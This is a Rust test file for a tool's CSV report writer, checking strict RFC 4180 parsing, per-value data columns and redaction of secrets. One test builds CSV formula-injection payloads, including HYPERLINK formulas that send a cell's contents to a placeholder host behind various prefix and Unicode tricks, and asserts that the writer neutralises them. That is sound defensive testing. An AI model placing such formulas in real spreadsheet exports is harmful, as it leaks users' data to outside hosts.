//! Comma-separated values, read back as strictly as RFC 4180 has them.

use roundup::report::{RunInfo, Style};
use roundup::{Failure, Kind, Outcome, Phase, Redactor};
use serde_json::{Value, json};

use super::hostile::NASTY;
use super::samples::{SECRET, assorted, failed, ok, run};
use super::{written, written_of};

/// The rows of a file by the grammar of RFC 4180, section 2; panics where it is broken. Bytes beyond ASCII are text.
fn rows(csv: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut rest) = (Vec::new(), Vec::new(), csv);
    while !rest.is_empty() {
        let cell;
        if let Some(quoted) = rest.strip_prefix('"') {
            let mut text = String::new();
            let mut inside = quoted;
            loop {
                let (before, after) = inside.split_once('"').expect("a quote is closed");
                text.push_str(before);
                match after.strip_prefix('"') {
                    Some(more) => {
                        text.push('"');
                        inside = more;
                    }
                    None => {
                        rest = after;
                        break;
                    }
                }
            }
            cell = text;
        } else {
            let end = rest.find([',', '\r', '\n']).expect("a row is ended");
            assert!(!rest[..end].contains('"'), "a quote in a cell without quotes: {rest}");
            cell = rest[..end].to_owned();
            rest = &rest[end..];
        }
        row.push(cell);
        rest = match rest.strip_prefix(',') {
            Some(more) => more,
            None => {
                rows.push(std::mem::take(&mut row));
                rest.strip_prefix("\r\n").unwrap_or_else(|| panic!("neither a comma nor CRLF: {rest:?}"))
            }
        };
    }
    assert!(row.is_empty(), "the last row has no end");
    rows
}

/// The cell of a row under this name.
fn cell<'a>(rows: &'a [Vec<String>], row: usize, name: &str) -> &'a str {
    let column = rows[0].iter().position(|each| each == name).unwrap_or_else(|| panic!("no column {name}"));
    &rows[row][column]
}

#[test]
fn one_row_a_result_under_one_row_of_names() {
    let outcomes = assorted();
    let rows = rows(&written("csv", &Style::default(), &outcomes));
    assert_eq!(rows.len(), outcomes.len() + 1);
    assert!(rows.iter().all(|row| row.len() == rows[0].len()));
    for (index, outcome) in outcomes.iter().enumerate() {
        assert_eq!(cell(&rows, index + 1, "name"), &*outcome.name);
        let status = outcome.status.map_or_else(String::new, |status| status.to_string());
        assert_eq!(cell(&rows, index + 1, "status"), status);
        let kind = outcome.error.as_ref().map_or("", |error| error.kind.as_str());
        assert_eq!(cell(&rows, index + 1, "error_kind"), kind);
    }
    assert_eq!(written("csv", &Style::default(), &[]).lines().count(), 1, "names without results");
}

#[test]
fn nothing_a_server_sends_is_a_formula_or_another_cell() {
    let mut nasty: Vec<String> = NASTY.iter().map(|text| (*text).to_owned()).collect();
    for start in
        ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "\u{feff}=", "\u{200b}-", " +", ";=", "=1,\"=2\"\r\n=3,"]
    {
        nasty.push(format!("{start}HYPERLINK(\"http://h/\"&A1,\"x\")"));
    }
    let outcomes: Vec<Outcome> = nasty
        .iter()
        .enumerate()
        .map(|(index, text)| {
            let mut outcome = ok(index, text, text, text.as_bytes());
            (outcome.url, outcome.final_url) = (text.as_str().into(), Some(text.as_str().into()));
            outcome.body_file = Some(text.into());
            outcome.data = Some([(text.clone(), Value::from(text.as_str()))].into_iter().collect());
            let message = text.as_str().into();
            outcome.error = Some(Failure { kind: Kind::Io, phase: Some(Phase::Body), message, retry_at: None });
            outcome
        })
        .collect();
    let csv = written("csv", &Style::default(), &outcomes);
    let rows = rows(&csv);
    assert_eq!(rows.len(), outcomes.len() + 1);
    for row in &rows {
        assert_eq!(row.len(), rows[0].len());
        for text in row {
            let begins = text.trim_start_matches(['\u{feff}', '\u{200b}', ' ', ';']);
            assert!(!begins.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝']), "{text:?}");
            assert!(!text.contains(|c: char| c.is_control() && !matches!(c, '\t' | '\r' | '\n')), "{text:?}");
        }
    }
    // What is no formula and holds no control character comes back as it was.
    for (index, text) in nasty.iter().enumerate().filter(|(_, text)| !text.contains(|c: char| c.is_control())) {
        if !text.contains(['\u{2028}', '\u{202e}', '\u{2066}']) {
            let name = cell(&rows, index + 1, "name");
            assert_eq!(name.strip_prefix('\'').unwrap_or(name), text);
        }
    }
}

#[test]
fn selected_values_have_columns_of_their_own() {
    let selected = |values: Value| {
        let mut outcome = ok(0, "n", "application/json", b"");
        outcome.data =
            values.as_object().map(|values| values.iter().map(|(name, value)| (name.as_str(), value)).collect());
        outcome
    };
    let outcomes = [
        selected(json!({"t": -3.5, "s": "-3.5", "n": null})),
        selected(json!({"more": [1, {"a": "b,c"}], "t": 12345678901234567890u64, "s": true})),
        failed(2, "f", Kind::Dns, None, "x"),
    ];
    let rows = rows(&written("csv", &Style::default(), &outcomes));
    assert_eq!(rows[0][rows[0].len() - 4..], ["data.n", "data.s", "data.t", "data.more"]);
    // A number can be added up although it is below zero, and so can text that is one.
    assert_eq!(rows[1][rows[1].len() - 4..], ["", "-3.5", "-3.5", ""]);
    assert_eq!(rows[2][rows[2].len() - 4..], ["", "true", "12345678901234567890", r#"[1,{"a":"b,c"}]"#]);
    assert_eq!(rows[3][rows[3].len() - 4..], ["", "", "", ""]);
}

#[test]
fn secrets_are_hidden_in_numbers_and_names_too() {
    let mut outcome = ok(0, SECRET, "", b"");
    let numbers = Redactor::new([SECRET.to_owned(), "12345678".to_owned()]);
    outcome.data =
        Some([(SECRET.to_owned(), json!(12345678)), ("list".to_owned(), json!([SECRET]))].into_iter().collect());
    let run = RunInfo { redactor: numbers, ..run() };
    let rows = rows(&written_of(&run, "csv", &Style::default(), &[outcome]));
    // What was a number stays one.
    assert_eq!(cell(&rows, 1, "data.[redacted]"), "0");
    assert_eq!(cell(&rows, 1, "data.list"), r#"["[redacted]"]"#);
    assert_eq!(cell(&rows, 1, "name"), "[redacted]");
}
